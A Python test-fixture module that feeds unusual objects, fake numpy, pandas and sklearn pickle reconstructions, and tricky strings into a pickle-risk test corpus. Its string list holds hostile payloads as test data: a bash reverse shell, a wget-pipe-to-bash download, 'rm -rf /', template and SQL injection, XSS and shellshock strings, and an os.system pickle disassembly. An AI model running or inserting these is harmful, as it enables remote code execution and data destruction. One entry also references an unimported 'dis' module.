# SPDX-License-Identifier: MIT
"""Other values than those of strange_data, which join its lists. For tests/risk/strangers.py."""

import abc
import argparse
import array
import ast
import asyncio
import base64
import binascii
import bisect
import calendar
import collections
import collections.abc
import concurrent.futures
import configparser
import contextlib
import copy
import copyreg
import csv
import dataclasses
import datetime
import decimal
import difflib
import doctest
import email.message
import email.utils
import enum
import fractions
import ftplib
import functools
import graphlib
import hashlib
import heapq
import html
import http
import http.cookies
import inspect
import ipaddress
import itertools
import json
import json.decoder
import logging
import lzma
import mailbox
import math
import numbers
import operator
import optparse
import os
import pathlib
import pickle
import platform
import plistlib
import poplib
import pprint
import queue
import random
import re
import reprlib
import sched
import shlex
import signal
import smtplib
import socket
import ssl
import statistics
import string
import struct
import subprocess
import sys
import tarfile
import textwrap
import threading
import time
import timeit
import tokenize
import traceback
import types
import typing
import unittest
import urllib.error
import urllib.parse
import urllib.request
import uuid
import warnings
import wsgiref.headers
import xml.etree.ElementTree
import xmlrpc.client
import zipfile
import zlib
import zoneinfo

import strange_data
from strange_data import PACKAGES


# Classes of other programs that nobody knows.
class Stamp(datetime.datetime):
    pass


class Bag(collections.OrderedDict):
    pass


class Flags(enum.Flag):
    A = 1
    B = 2
    C = 4


class Shape(enum.Enum):
    SQUARE = "sq"


@dataclasses.dataclass(order=True)
class Reading:
    at: object
    value: float = 0.0
    tags: tuple = ()


class Err(KeyError):
    pass


class Tree(dict):

    def __init__(self, *a):
        super().__init__(*a)
        self.parent = None


class Money(decimal.Decimal):
    pass


class UserPath(str):
    pass


class Vec:
    __slots__ = ("x", "y", "__dict__")


class Lazy:

    def __reduce_ex__(self, p):
        return (Lazy, (), None, iter([1, 2]), iter([("a", 1)]))

    def append(self, x):
        pass

    def extend(self, x):
        pass

    def __setitem__(self, k, v):
        pass


Row = collections.namedtuple("Row", ["id", "name", "system", "exec"])


def own(mod, **k):
    m = sys.modules.setdefault(mod, types.ModuleType(mod))
    for n, t in k.items():
        t.__module__ = mod
        t.__qualname__ = n
        setattr(m, n, t)


own("lab.readings", Stamp=Stamp, Bag=Bag, Flags=Flags, Shape=Shape, Reading=Reading, Row=Row)
own("hotel.booking.core", Err=Err, Tree=Tree, Money=Money, UserPath=UserPath, Vec=Vec, Lazy=Lazy)


def mkvec():
    v = Vec()
    v.x = 1
    v.y = [v]
    v.z = "s"
    return v


def other_own(h):
    h.unknown = True
    r = h.r
    return r.choice([lambda: Stamp(2024, 1, 2, 3), lambda: Bag(a=1), lambda: Flags.A | Flags.C,
                     lambda: Shape.SQUARE, lambda: Reading(Stamp(2020, 1, 1), 1.5, ("x",)),
                     lambda: Err("no"), lambda: Tree({"a": Tree()}), lambda: Money("1.20"),
                     lambda: UserPath("/tmp/os.system"), mkvec, lambda: Lazy(),
                     lambda: [Row(i, "n", None, "x") for i in range(30)],
                     lambda: Row._make([1, 2, 3, 4]), lambda: functools.partial(Reading, tags=()),
                     lambda: Reading, lambda: {Shape.SQUARE: Flags.B}])()


def other_package(h):
    p = PACKAGES
    r = h.r
    core = r.choice(["numpy.core.multiarray", "numpy._core.multiarray"])

    def dt(c, e="<"):
        return p.built(p.name("numpy", "dtype"), (c, False, True),
                       (3, e, None, None, None, -1, -1, 0))

    def arr(shape, c, raw):
        return p.built(p.name(core, "_reconstruct", True), (p.name("numpy", "ndarray"), (0,), b"b"),
                       (1, shape, dt(c), False, raw))

    def index(v):
        return p.built(p.name("pandas.core.indexes.base", "_new_Index", True),
                       (p.name("pandas.core.indexes.base", "Index"), {"data": v, "name": None}))

    def frame():
        block = p.built(p.name("pandas._libs.internals", "_unpickle_block", True),
                        (arr((1, 2), "f8", bytes(16)), slice(0, 1, 1), 2))
        mgr = p.built(p.name("pandas.core.internals.managers", "BlockManager"),
                      ((block,), [index(arr((1,), "i8", bytes(8))), index(arr((2,), "i8",
                          bytes(16)))]))
        return p.instance("pandas.core.frame", "DataFrame", _mgr=mgr, _typ="dataframe",
                          _metadata=[], attrs={}, _flags={"allows_duplicate_labels": True})
    return r.choice([lambda: arr((2,), "f4", bytes(8)), frame, lambda: arr((3,), "S4", b"abcd" * 3),
                     lambda: arr((1,), "M8", bytes(8)),
                     lambda: p.instance("sklearn.tree._classes", "DecisionTreeClassifier",
                                        max_depth=3, classes_=arr((2,), "i8", bytes(16)),
                                        _sklearn_version="1.3.0"),
                     lambda: p.instance("sklearn.compose._column_transformer", "ColumnTransformer",
                                        transformers=[]),
                     lambda: p.instance("sklearn.preprocessing._encoders", "OneHotEncoder",
                                        dtype=p.name("numpy", "float64"), categories="auto"),
                     lambda: p.instance("sklearn.model_selection._search", "GridSearchCV", cv=5),
                     lambda: p.built(p.name("numpy.random._pickle", "__randomstate_ctor", True),
                                     ("MT19937",)),
                     lambda: p.instance("scipy.sparse._csr", "csr_matrix", _shape=(1, 1),
                                        maxprint=50, data=arr((1,), "f8", bytes(8))),
                     lambda: p.built(p.name("numpy.ma.core", "_mareconstruct", True),
                                     (p.name("numpy.ma.core", "MaskedArray"),
                                      p.name("numpy", "ndarray"), (0,), b"b")),
                     lambda: p.instance("xgboost.sklearn", "XGBClassifier", n_estimators=10),
                     lambda: p.instance("lightgbm.sklearn", "LGBMRegressor", n_estimators=10),
                     lambda: p.instance("django.http.response", "HttpResponse", status_code=200),
                     lambda: p.instance("requests.models", "Response", status_code=200,
                                        _content=b"{}"),
                     lambda: p.built(p.name("torch._utils", "_rebuild_parameter", True),
                                     (1, True, collections.OrderedDict())) if 0 else 1,
                     lambda: p.built(p.name("dateutil.tz.tz", "tzoffset"), ("X", 3600)),
                     lambda: p.instance("markupsafe", "Markup") if 0 else 2,
                     lambda: p.built(p.name("pandas._libs.tslibs.timedeltas", "_timedelta_unpickle",
                                            True), (10, 10)),
                     lambda: p.built(p.name("pandas._libs.arrays", "__pyx_unpickle_NDArrayBacked",
                                            True),
                                     (p.name("pandas.core.arrays.datetimes", "DatetimeArray"), 1,
                                      None))])()


strange_data.STDLIB += [
    lambda h: collections.ChainMap({}, {"a": collections.Counter("x")}),
    lambda h: [array.array(c, [1, 2]) for c in "bBhHiIlLqQfd"],
    lambda h: datetime.datetime.min,
    lambda h: datetime.timedelta.max,
    lambda h: datetime.datetime(2024, 10, 27, 2, 30, fold=1,
                                tzinfo=zoneinfo.ZoneInfo("America/New_York")),
    lambda h: decimal.Context(prec=3, traps=[decimal.Inexact]),
    lambda h: decimal.DivisionByZero("x"),
    lambda h: decimal.Decimal("-Infinity"),
    lambda h: fractions.Fraction("1/3"),
    lambda h: ipaddress.IPv6Network("2001:db8::/32"),
    lambda h: ipaddress.IPv4Interface("1.2.3.4/8"),
    lambda h: pathlib.PureWindowsPath("\\\\server\\share"),
    lambda h: uuid.uuid5(uuid.NAMESPACE_DNS, "x"),
    lambda h: uuid.SafeUUID.safe,
    lambda h: re.compile("(?P<x>a+)", re.X | re.S),
    lambda h: re.error("bad", "x", 1),
    lambda h: string.Template("$a ${b}"),
    lambda h: types.SimpleNamespace(f=len, g=operator.itemgetter("a")),
    lambda h: types.GenericAlias(list, (int,)),
    lambda h: typing.Union[int, str, None],
    lambda h: typing.Tuple[int, ...],
    lambda h: typing.ForwardRef("X"),
    lambda h: typing.List,
    lambda h: typing.ClassVar[int],
    lambda h: typing.Annotated[int, "m"],
    lambda h: functools.partial(functools.partial(min, 3), 4),
    lambda h: functools.partial(print, end=""),
    lambda h: functools.partial(str.replace),
    lambda h: functools.partial(operator.add, 1),
    lambda h: functools.partial(isinstance),
    lambda h: operator.attrgetter("a", "b.c.d"),
    lambda h: operator.methodcaller("format", 1, x=2),
    lambda h: itertools.chain.from_iterable([[1], [2]]),
    lambda h: itertools.accumulate([1, 2]),
    lambda h: itertools.starmap(len, [("a",)]),
    lambda h: itertools.zip_longest([1], [2, 3], fillvalue=0),
    lambda h: itertools.groupby([1, 1, 2]),
    lambda h: itertools.compress("ab", [1, 0]),
    lambda h: itertools.dropwhile(bool, [0, 1]),
    lambda h: itertools.takewhile(str.isalpha, ["a"]),
    lambda h: itertools.combinations([1, 2, 3], 2),
    lambda h: itertools.pairwise([1, 2, 3]),
    lambda h: map(str.upper, ["a"]),
    lambda h: filter(str.isdigit, ["1"]),
    lambda h: zip("ab", [1, 2]),
    lambda h: enumerate("ab", 5),
    lambda h: reversed((1, 2)),
    lambda h: iter(b"ab"),
    lambda h: iter(bytearray(b"a")),
    lambda h: iter(collections.deque([1])),
    lambda h: iter(array.array("i", [1])),
    lambda h: iter({1: 2}.values()),
    lambda h: iter({1: 2}.items()),
    lambda h: reversed({1: 2}),
    lambda h: BlockingIOError(11, "x"),
    lambda h: ConnectionRefusedError(111, "refused"),
    lambda h: UnicodeEncodeError("ascii", "é", 0, 1, "no"),
    lambda h: SyntaxError("bad", ("f.py", 1, 2, 'os.system("id")')),
    lambda h: ExceptionGroup("g", [OSError(2, "x"), ExceptionGroup("h", [KeyError(1)])]),
    lambda h: KeyboardInterrupt(),
    lambda h: GeneratorExit(),
    lambda h: DeprecationWarning("old"),
    lambda h: asyncio.TimeoutError(),
    lambda h: asyncio.CancelledError(),
    lambda h: asyncio.IncompleteReadError(b"x", 3),
    lambda h: concurrent.futures.TimeoutError(),
    lambda h: queue.Empty(),
    lambda h: json.decoder.JSONDecodeError("x", "{", 1),
    lambda h: zlib.error("x"),
    lambda h: lzma.LZMAError("x"),
    lambda h: binascii.Error("x"),
    lambda h: struct.error("x"),
    lambda h: ssl.SSLError(1, "x"),
    lambda h: socket.gaierror(-2, "x"),
    lambda h: smtplib.SMTPResponseException(550, "x"),
    lambda h: ftplib.error_perm("550"),
    lambda h: poplib.error_proto("x"),
    lambda h: xml.etree.ElementTree.ParseError("x"),
    lambda h: argparse.ArgumentError(None, "x"),
    lambda h: configparser.NoSectionError("x"),
    lambda h: subprocess.SubprocessError("x"),
    lambda h: pickle.UnpicklingError("x"),
    lambda h: zipfile.LargeZipFile("x"),
    lambda h: tarfile.ReadError("x"),
    lambda h: urllib.error.ContentTooShortError("x", b""),
    lambda h: contextlib.suppress(ValueError),
    lambda h: contextlib.nullcontext(3),
    lambda h: graphlib.CycleError("x", ["a"]),
    lambda h: heapq.heappush,
    lambda h: bisect.bisect_left,
    lambda h: math.floor,
    lambda h: statistics.stdev,
    lambda h: string.digits,
    lambda h: textwrap.fill,
    lambda h: time.strftime,
    lambda h: time.monotonic,
    lambda h: datetime.date.today,
    lambda h: os.path.splitext,
    lambda h: os.getpid,
    lambda h: os.path.exists,
    lambda h: hashlib.md5,
    lambda h: json.dump,
    lambda h: zlib.compress,
    lambda h: base64.b64decode,
    lambda h: copy.deepcopy,
    lambda h: copy.copy,
    lambda h: random.random,
    lambda h: random.shuffle,
    lambda h: uuid.uuid1,
    lambda h: re.sub,
    lambda h: re.findall,
    lambda h: urllib.parse.urljoin,
    lambda h: html.unescape if hasattr(html, "unescape") else 1,
    lambda h: difflib.get_close_matches,
    lambda h: shlex.split,
    lambda h: calendar.isleap,
    lambda h: decimal.getcontext,
    lambda h: collections.namedtuple,
    lambda h: dataclasses.asdict,
    lambda h: dataclasses.replace,
    lambda h: functools.wraps,
    lambda h: functools.cmp_to_key,
    lambda h: itertools.chain,
    lambda h: operator.neg,
    lambda h: operator.contains,
    lambda h: struct.unpack,
    lambda h: isinstance,
    lambda h: zip,
    lambda h: map,
    lambda h: filter,
    lambda h: sum,
    lambda h: any,
    lambda h: repr,
    lambda h: hash,
    lambda h: id,
    lambda h: iter,
    lambda h: next,
    lambda h: callable,
    lambda h: dict,
    lambda h: bytes,
    lambda h: super,
    lambda h: property,
    lambda h: staticmethod,
    lambda h: {"f": {"f": max}},
    lambda h: (int.bit_length, str.join, list.append, dict.items, set.add, bytes.hex, float.hex),
    lambda h: [1].index,
    lambda h: {1}.union,
    lambda h: b"".join,
    lambda h: 3 .bit_length,
    lambda h: datetime.date(2020, 1, 1).isoformat,
    lambda h: decimal.Decimal(3).sqrt,
    lambda h: collections.Counter("a").most_common,
    lambda h: re.compile("a").match,
    lambda h: inspect.signature(textwrap.fill),
    lambda h: inspect.Parameter("a", inspect.Parameter.POSITIONAL_ONLY, annotation=int),
    lambda h: inspect.ArgInfo([], None, None, {}),
    lambda h: ast.Name("x", ast.Load()),
    lambda h: ast.parse("def f(a,*,b=1): return [x for x in a if b]"),
    lambda h: tokenize.TokenInfo(1, "eval", (1, 0), (1, 4), "eval(x)"),
    lambda h: traceback.TracebackException(ValueError, ValueError("x"), None),
    lambda h: traceback.FrameSummary("a", 1, "b", line="c"),
    lambda h: warnings.WarningMessage("m", UserWarning, "f", 1),
    lambda h: logging.LogRecord("n", 10, "p", 1, "%s %d", ("a", 1), None),
    lambda h: logging.getLogger("x.y"),
    lambda h: logging.Formatter("%(levelname)s", style="%"),
    lambda h: logging.Filter("a"),
    lambda h: logging.BASIC_FORMAT,
    lambda h: email.message.EmailMessage(),
    lambda h: email.utils.formataddr,
    lambda h: wsgiref.headers.Headers([("a", "b")]),
    lambda h: xmlrpc.client.Fault(3, "x"),
    lambda h: xmlrpc.client.DateTime(0),
    lambda h: mailbox.MaildirMessage("x"),
    lambda h: plistlib.UID(3),
    lambda h: plistlib.FMT_XML,
    lambda h: csv.excel,
    lambda h: csv.QUOTE_ALL,
    lambda h: xml.etree.ElementTree.fromstring('<r><x y="1"/>t</r>'),
    lambda h: http.cookies.SimpleCookie("a=b; c=d"),
    lambda h: urllib.request.Request("https://x/", data=b"a=1"),
    lambda h: urllib.parse.SplitResultBytes(b"", b"", b"", b"", b""),
    lambda h: urllib.parse.DefragResult("a", "b"),
    lambda h: socket.AF_INET6,
    lambda h: socket.SO_REUSEADDR,
    lambda h: ssl.TLSVersion.TLSv1_3,
    lambda h: ssl.VerifyMode.CERT_REQUIRED,
    lambda h: signal.SIGTERM,
    lambda h: http.HTTPMethod.GET,
    lambda h: calendar.Calendar(6),
    lambda h: calendar.HTMLCalendar(),
    lambda h: pprint.PrettyPrinter,
    lambda h: reprlib.Repr(),
    lambda h: difflib.Differ(),
    lambda h: textwrap.TextWrapper(),
    lambda h: argparse.Namespace(a=argparse.Namespace()),
    lambda h: optparse.Values(),
    lambda h: platform.uname(),
    lambda h: os.uname(),
    lambda h: os.stat("/"),
    lambda h: os.statvfs("/"),
    lambda h: time.gmtime(0),
    lambda h: sched.Event(1, 2, 3, len, (), {}),
    lambda h: statistics.NormalDist(),
    lambda h: random.Random(1).getstate(),
    lambda h: threading.TIMEOUT_MAX,
    lambda h: unittest.SkipTest("x"),
    lambda h: doctest.Example("1+1\n", "2\n"),
    lambda h: timeit.default_timer,
    lambda h: dis.Instruction._fields,
    lambda h: copyreg.__newobj__,
    lambda h: numbers.Number,
    lambda h: collections.abc.Mapping,
    lambda h: enum.IntEnum,
    lambda h: enum.Flag,
    lambda h: abc.ABC,
    lambda h: object(),
    lambda h: type(lambda: 0),
]
strange_data.TEXTS += [
    "\n".join(["    0: \\x80 PROTO      4", "   11: \\x8c SHORT_BINUNICODE 'os'",
               "   15: \\x8c SHORT_BINUNICODE 'system'", "   23: \\x93 STACK_GLOBAL"]),
    'import subprocess; subprocess.run(["ls"])',
    "eval",
    "exec",
    "posix.system",
    "nt",
    "__class__",
    '__globals__["os"]',
    "{{config.__class__.__init__.__globals__}}",
    "sudo rm -rf --no-preserve-root /",
    "wget http://198.51.100.7/x.sh -O- | bash",
    "powershell.exe -nop -w hidden",
    '<iframe src="javascript:alert(1)">',
    "UNION SELECT password FROM users",
    "/bin/bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
    "()  { :;}; echo vulnerable",
    "\\x80\\x04\\x95 as escapes",
    "b'\\x80\\x04'",
    "80049500",
    '#include <stdlib.h>\nint main(){system("id");}',
    "<svg onload=alert(1)>",
    "0x414141",
    "AKIAIOSFODNN7EXAMPLE",
    "-----BEGIN RSA PRIVATE KEY-----",
    "cos(x) + sin(y)",
    "cposix",
    "(lp0",
    "(dp1 is how it begins",
    "I01",
    "}q is a smile",
    "].",
    ".",
    "..",
    "N.",
    "K.",
    "(.",
    "c.",
    "\\",
    "straße über Größe",
    "Ünïcödé everywhere",
    "ÿþ",
    "Â\x80\x04 mojibake",
    "x\x9c compressed, they say",
    "PK\x03\x04",
    "BZh9",
    "ýÿ",
    "1f8b08",
    "H4sI",
    "eJw",
    "gANj",
    "gASV",
    "Y3Bvc2l4",
    "Y29z",
    "%50%4B",
    "&#x27;",
    "SGVsbG8gd29ybGQ=",
    "TWFuIGlzIGRpc3Rpbmd1aXNoZWQ=",
]
strange_data.PACKAGE_VALUES.append(other_package)
strange_data.OTHER_OWN.append(other_own)
